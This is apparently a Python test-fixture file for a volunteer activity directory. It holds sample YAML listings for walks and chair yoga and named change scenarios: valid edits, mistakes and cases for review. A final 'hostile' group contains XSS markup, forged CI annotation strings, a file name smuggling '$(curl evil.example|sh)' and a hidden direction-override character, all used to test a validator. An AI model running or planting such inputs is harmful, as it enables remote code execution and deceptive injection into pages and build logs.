"""Changes as people send them: what each does to a small providers folder, and who sent it.

A text that is replaced must be there, so that an example cannot go stale unnoticed.
"""

from collections.abc import Mapping
from typing import NamedTuple

WALK = "peak-strollers/gentle-walk.yaml"
YOGA = "peak-strollers/chair-yoga.yaml"
GROUP = "peak-strollers/provider.yaml"
HALL = "village-hall/provider.yaml"

BASE: Mapping[str, str] = {
    GROUP: """\
name: Peak Strollers
what_it_is: voluntary-group
contact: {phone: 0114 496 0123, email: hello@peak-strollers.example.org}
owners: [peak-strollers-team]
venues:
  bandstand: {name: The bandstand, town: Matlock, lat: 53.13700, lon: -1.55300}
""",
    WALK: """\
name: Gentle walk from the bandstand
summary: A slow walk on flat paths by the river, with a stop for tea.
kind: group-session
activities: [health-walk]
who_for: {open_to_anyone: yes}
joining: {booking: not-needed}
sessions:
  - venue: bandstand
    days: [tuesday]
    start: 10:00
    end: 11:00
cost: {kind: free}
access: {has: [own-pace]}
checked: {by: provider, on: 2026-10-05, how: phone}
""",
    YOGA: """\
name: Chair yoga
summary: Easy yoga on a chair, with time for a chat.
kind: group-session
activities: [yoga]
who_for: {open_to_anyone: yes}
joining: {booking: not-needed}
sessions:
  - venue: village-hall/hall
    days: [thursday]
    start: 14:00
    end: 15:00
cost:
  kind: priced
  prices:
    - {amount: 4.00, per: session, when: each-time}
access: {has: [seated-option]}
checked: {by: provider, on: 2026-09-01, how: phone}
""",
    HALL: """\
name: Lower Dale Village Hall
what_it_is: community-centre
contact: {phone: 0114 496 0188}
venues:
  hall: {name: Village Hall, town: Bakewell, lat: 53.21400, lon: -1.67400}
""",
}

NEW_WALK = """\
name: Short walk in Wirksworth
summary: Half an hour on level streets, then coffee.
kind: group-session
activities: [health-walk]
who_for: {open_to_anyone: yes}
joining: {booking: not-needed}
sessions:
  - venue: bandstand
    days: [friday]
    start: 10:30
    end: 11:00
cost: {kind: free}
access: {has: [own-pace]}
checked: {by: provider, on: 2026-11-20, how: form}
"""
NEW_GROUP = """\
name: River Rowers
what_it_is: sports-club
contact: {phone: 0114 496 0133}
venues:
  boathouse: {name: The boathouse, town: Derby, lat: 52.92500, lon: -1.47700}
"""
HOSTILE = "@everyone ![x](https://evil.example/x) <img src=x onerror=a(1)> [x](javascript:)"
FORGED = "Walk ::error file=x::y%0A::stop-commands::t ##[error]gone -->"


class Example(NamedTuple):
    """What happens: `swap` replaces texts in files, `put` writes files (None takes one away).

    `login` sent it; `team` says that they may write; `outside` are files besides listings.
    """

    swap: tuple[tuple[str, str, str], ...] = ()
    put: Mapping[str, str | None] = {}
    login: str = "peak-strollers-team"
    team: bool = False
    outside: tuple[str, ...] = ()


EXAMPLES: Mapping[str, Example] = {
    # Good ones.
    "moved-to-wednesday": Example(
        swap=(
            (WALK, "tuesday", "wednesday"),
            (WALK, "start: 10:00", "start: 10:30"),
            (WALK, "end: 11:00", "end: 11:30"),
            (WALK, "2026-10-05", "2026-11-20"),
        )
    ),
    "second-day": Example(swap=((WALK, "days: [tuesday]", "days: [tuesday, friday]"),)),
    "price-goes-up": Example(
        swap=(
            (YOGA, "amount: 4.00", "amount: 5.00"),
            (YOGA, "each-time}", "each-time}\n    - {amount: 0, per: session, when: first-time}"),
        )
    ),
    "paused-for-winter": Example(
        swap=((WALK, "cost:", "status: {state: paused, reopens_on: 2027-03-02}\ncost:"),)
    ),
    "more-about-access": Example(
        swap=((WALK, "[own-pace]}", "[own-pace, hearing-loop], toilets: In the tea room}"),)
    ),
    "only-still-right": Example(swap=((WALK, "2026-10-05", "2026-11-20"),)),
    "confirmed-by-a-stranger": Example(
        swap=((WALK, "2026-10-05", "2026-11-20"),), login="someone-else"
    ),
    "new-phone": Example(swap=((GROUP, "0114 496 0123", "0114 496 0199"),)),
    "hall-has-moved": Example(swap=((HALL, "name: Village Hall", "name: The New Hall"),)),
    "new-walk": Example(put={"peak-strollers/short-walk.yaml": NEW_WALK}),
    "new-group": Example(
        put={
            "river-rowers/provider.yaml": NEW_GROUP,
            "river-rowers/first-row.yaml": NEW_WALK.replace("bandstand", "boathouse"),
        },
        login="rower",
    ),
    "renamed": Example(
        put={
            WALK: None,
            "peak-strollers/bandstand-walk.yaml": BASE[WALK]
            + "formerly: [peak-strollers/gentle-walk]\n",
        }
    ),
    "taken-down": Example(
        put={
            "_withdrawn.yaml": "withdrawn:\n  - id: peak-strollers/gentle-walk\n"
            "    on: 2026-11-20\n    reason: The path has gone.\n"
        },
        login="coordinator",
        team=True,
    ),
    # Mistakes.
    "gone-without-a-word": Example(put={WALK: None}),
    "time-with-a-dot": Example(swap=((WALK, "start: 10:00", "start: 10.30"),)),
    "day-cut-short": Example(swap=((WALK, "[tuesday]", "[Tues]"),)),
    "activity-misspelt": Example(swap=((WALK, "health-walk", "helth-walk"),)),
    "line-without-colon": Example(swap=((WALK, "kind: group-session", "kind group-session"),)),
    "tab-for-spaces": Example(swap=((WALK, "    days:", "\tdays:"),)),
    "nothing-behind-the-colon": Example(swap=((WALK, "cost: {kind: free}", "cost:"),)),
    "sample-left-in": Example(swap=((WALK, "Gentle walk from the bandstand", "<write here>"),)),
    "a-place-nobody-knows": Example(swap=((WALK, "venue: bandstand", "venue: bandstant"),)),
    "someone-s-own-mail": Example(
        swap=((GROUP, "hello@peak-strollers.example.org", "jane.smith@gmail.com"),)
    ),
    "group-file-broken": Example(
        swap=((GROUP, "what_it_is: voluntary-group", "what_it_is: walks"),)
    ),
    # What the team should look at.
    "other-owners": Example(
        swap=((GROUP, "[peak-strollers-team]", "[somebody-new]"),), login="somebody-new"
    ),
    "words-for-everybody": Example(
        put={"_template/walk.yaml": "name: Mine\n"}, login="coordinator", team=True
    ),
    "code-comes-along": Example(
        swap=((WALK, "tuesday", "wednesday"),),
        outside=("plugins/waymark/check.py", ".github/workflows/check.yml"),
        login="someone-else",
    ),
    # Hostile ones.
    "hostile-names": Example(
        swap=(
            (WALK, "name: Gentle walk from the bandstand", f"name: '{HOSTILE}'"),
            (
                WALK,
                "A slow walk on flat paths",
                "</details><script>x</script> `` fixes GH-1 A slow walk",
            ),
        )
    ),
    "forged-annotations": Example(
        swap=(
            (WALK, "name: Gentle walk from the bandstand", f"name: '{FORGED}'"),
            (WALK, "start: 10:00", "start: '::error::x'"),
        )
    ),
    "hostile-file-name": Example(
        put={"peak-strollers/$(curl evil.example|sh);`id`\n::error::x.yaml": NEW_WALK}
    ),
    "hidden-letters": Example(swap=((WALK, "A slow walk", "A slow\u202e walk"),)),
}
